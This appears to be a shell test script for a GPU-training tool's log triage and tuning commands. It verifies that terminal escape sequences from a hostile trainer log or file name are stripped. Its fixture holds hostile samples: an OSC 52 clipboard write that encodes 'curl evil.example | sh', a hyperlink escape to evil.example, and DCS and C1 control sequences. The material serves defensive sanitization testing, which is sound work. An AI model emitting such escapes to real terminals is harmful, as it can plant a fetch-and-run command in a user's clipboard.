#!/usr/bin/env bash
# escapes.sh - no terminal escape from a trainer's log or a file name reaches
# the terminal, autotune.log or plan.md (issue 19 item 4): a trainer that
# prints OSC 52 (clipboard write), OSC 8 (hyperlink), DCS and 8-bit CSI in
# its log, read by `triage` and run by `tune`; a log file whose name holds an
# escape. The output keeps the text around them.
. "$(dirname "$0")/lib.sh"
export XDG_DATA_HOME=$TMP/xdg
export VRAMFIT_NVML_LIB=off VRAMFIT_NVIDIA_SMI=/nonexistent/nvidia-smi
TRAINER=$VF_SOURCE_DIR/examples/ltx-mini-trainer

# no_controls FILE: no ESC, no BEL, no raw 8-bit CSI/OSC/DCS/ST, no UTF-8
# encoded C1 control (U+0080-U+009F) in FILE
no_controls() {
  ! LC_ALL=C grep -q -P '\x1b|\x07|[\x90\x9b\x9c\x9d]|\xc2[\x80-\x9f]' "$1"
}

cat > "$TMP/hostile.sh" <<'SH'
#!/bin/sh
printf 'Loading \033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\007model\n'
printf 'see \033]8;;https://evil.example/\033\\the docs\033]8;;\033\\ now\n'
printf 'dcs \033P$q"p\033\\here \2332J raw \302\2336n utf8\n' >&2
printf 'torch.OutOfMemoryError: CUDA out of memory. \033]52;c;ZXZpbA==\007Tried \033P1$r0m\033\\to allocate 2.00 GiB.\n' >&2
exit 1
SH
sh "$TMP/hostile.sh" > "$TMP/hostile.log" 2>&1
test_case "the fixture log holds the escapes (the test can fail)"
check 'LC_ALL=C grep -q -P "\x1b\]52;" "$TMP/hostile.log" && LC_ALL=C grep -q -P "\x1bP" "$TMP/hostile.log"'
check '! no_controls "$TMP/hostile.log"'

test_case "triage: no escape reaches stdout or stderr"
"$VRAMFIT" triage "$TMP/hostile.log" --exit 1 >"$TMP/t.out" 2>"$TMP/t.err"; rc=$?
out=$(cat "$TMP/t.out"); err=$(cat "$TMP/t.err")
expect_rc 0
expect_out "outcome    oom"
expect_out "CUDA out of memory. Tried to allocate 2.00 GiB."
check 'no_controls "$TMP/t.out" && no_controls "$TMP/t.err"'
test_case "triage --json: the evidence holds no control character"
run triage "$TMP/hostile.log" --exit 1 --json
expect_json '"CUDA out of memory. Tried to allocate" in j["evidence"] and not any(ord(c) < 32 or 0x7f <= ord(c) <= 0x9f for c in j["evidence"])'

test_case "a file name: its escape sequence removed, its control bytes shown escaped"
name=$(printf 'x\033]52;c;ZXZpbA==\007y\rz.log')
"$VRAMFIT" triage "$TMP/$name" >"$TMP/n.out" 2>"$TMP/n.err"; rc=$?
err=$(cat "$TMP/n.err"); out=""
expect_rc 1
expect_err '/xy\x0dz.log: No such file'
check 'no_controls "$TMP/n.err"'

test_case "tune: no escape reaches stdout, stderr or autotune.log"
R=$TMP/run
mkdir -p "$R/overfit/.precomputed" "$R/dataset" "$R/outputs" "$R/logs"
cp "$TRAINER/data/text.txt" "$R/overfit/.precomputed/sample.txt"
cp "$TRAINER/configs/t2v_lora_low_vram.yaml" "$R/config.yaml"
"$VRAMFIT" config set "$R/config.yaml" "model.model_path=\"$TRAINER/models/mini.json\"" \
  "model.text_encoder_path=\"$TRAINER/models\"" >/dev/null
"$VRAMFIT" tune "$R" --trainer-dir "$TMP" --trainer-cmd "sh $TMP/hostile.sh {config}" --steps 10 \
  >"$TMP/u.out" 2>"$TMP/u.err"; rc=$?
out=$(cat "$TMP/u.out"); err=$(cat "$TMP/u.err")
expect_rc 1
expect_out "The baseline failed (oom)"
expect_out "CUDA out of memory. Tried to allocate 2.00 GiB."
expect_err "CUDA out of memory. Tried to allocate 2.00 GiB."
check '[ -s "$R/autotune.log" ] && grep -q "evidence: torch.OutOfMemoryError" "$R/autotune.log"'
check 'no_controls "$TMP/u.out" && no_controls "$TMP/u.err" && no_controls "$R/autotune.log"'
finish
